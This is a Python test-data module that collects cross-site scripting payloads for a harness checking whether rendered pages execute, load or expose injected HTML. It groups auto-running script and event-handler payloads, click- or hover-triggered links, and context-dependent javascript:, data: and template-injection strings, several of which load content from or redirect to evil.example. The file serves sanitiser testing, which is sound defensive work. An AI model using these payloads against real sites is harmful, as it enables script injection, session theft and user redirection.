"""Payloads of our own, of every class that we know; those beside the project come on top."""

import json
from pathlib import Path

RUN = (
    "<script>alert(1)</script>",
    "<script>window.__ran = 1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<sCrIpT/x>alert(1)//</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`//>",
    "<IMG SRC=x ONERROR=&#97;lert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/b.png)'>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<p title='</p><img src=x onerror=alert(1)>'><img src=x onerror=print()>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></style></script><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><img src=x onerror=confirm(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;' src=x onerror=alert(1)>",
    "<scr<b></b>ipt></scr<b></b>ipt><img src=x onerror=prompt(1)>",
    "<script>location = 'https://evil.example/'</script>",
)
"""What runs, loads or leaves as soon as a page shows it as HTML: the harness has to notice."""

TRAP = (
    "<a href=javascript:alert(1)>click</a>",
    "<a href='&#106;ava&#9;script:alert(1)'>click</a>",
    "<p onmouseover=alert(1)>hover</p>",
    "<form action=javascript:alert(1)><button>send</button></form>",
    "<button formaction=javascript:alert(1)>send</button>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<svg><a xlink:href=javascript:alert(1)><text>click</text></a></svg>",
)
"""What waits for somebody: the harness has to see it lie there."""

ODD = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://www.example.com/",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://www.example.com/" onmouseover="alert(1)',
    "https://www.example.com/'-alert(1)-'",
    '[text](javascript:alert(1)) ![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "{{ config.__class__ }}{% raw %}{# #}",
    "{: onclick=alert(1) }",
    "${alert(1)}`+alert(1)+`",
    '\\"});alert(1)//',
    "</script><script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<form id=__config><input name=search></form><a id=__md_scope href=x:y>",
    "--><!-- %0d%0a<",
    "\u202e<b>\u2028alert(1)",
)
"""What runs only where somebody handles it wrongly: as address, in a script, as Markdown."""

OWN = (*RUN, *TRAP, *ODD)
_OTHERS = Path(__file__).parents[2].parent / "shared" / "testdata" / "xss_payloads.json"


def payloads() -> list[str]:
    """Give our payloads, and the public ones where `shared/testdata` lies beside the project."""
    if not _OTHERS.is_file():
        return [*OWN]
    others = json.loads(_OTHERS.read_text("utf-8"))["payloads"]
    return [*OWN, *(entry["payload"] for entry in others)]
